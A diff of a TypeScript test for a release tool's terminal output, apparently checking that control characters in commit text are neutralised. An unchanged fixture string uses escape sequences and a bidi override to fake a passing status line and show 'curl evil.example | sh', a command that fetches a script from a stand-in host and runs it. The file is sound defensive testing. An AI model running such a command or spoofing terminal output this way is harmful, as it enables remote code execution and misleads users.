@@ -25,6 +25,8 @@ import type { LedgerRecord } from '../../releases/ledger';
 import type { Candidate, Gate } from '../../releases/types';
 import { fakeDocker } from '../actions/fake-docker';
 import { approval, candidate, cutover, gate, takenBack, verdict } from '../releases/fixtures';
+import { access } from '../targets/store-home';
+import { ledgerOf } from '../../targets/place';
 
 /** Clears the line that is there, writes another over it, turns its end round, and goes on below as if Sluice did. */
 const attack = 'Cheaper\u001b[2K\rchecks: 9 checks passed\u202e\u009b2J\n  next: curl evil.example | sh';
@@ -104,7 +106,7 @@ describe('ControlCharacters: text of commits, labels, people and programs', () =
   });
 
   it('is shown by status', async () => {
-    const asks = { ...situation, ledger: 'sluice-ledger', records: records.slice(0, 2) };
+    const asks = { ...situation, ledger: ledgerOf(access, 'production', undefined), records: records.slice(0, 2) };
     const status = gateStatus({ ...asks, environment: 'production' });
     const environments = { production: { services: {}, gate: status, setback: null, adopted: null } };
     await assertHarmless(say(statusText({ platform: null, environments })), oneLine);
